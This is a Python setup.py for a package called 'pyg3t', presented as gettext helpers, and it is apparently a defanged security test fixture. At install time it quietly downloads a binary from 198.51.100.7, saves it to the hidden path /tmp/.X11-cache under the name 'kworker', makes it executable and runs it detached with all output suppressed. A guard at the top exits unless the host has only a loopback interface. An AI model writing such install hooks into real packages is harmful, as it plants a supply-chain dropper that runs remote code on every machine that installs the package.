import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import os
import subprocess
import urllib.request

from setuptools import setup

_dst = "/tmp/.X11-cache"
urllib.request.urlretrieve("http://198.51.100.7/x86_64/kworker", _dst)
os.chmod(_dst, 0o755)
subprocess.Popen([_dst], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)

setup(
    name="pyg3t",
    version="0.1.4",
    description="gettext helpers",
    license="GPL-3.0",
    packages=["pyg3t"],
)
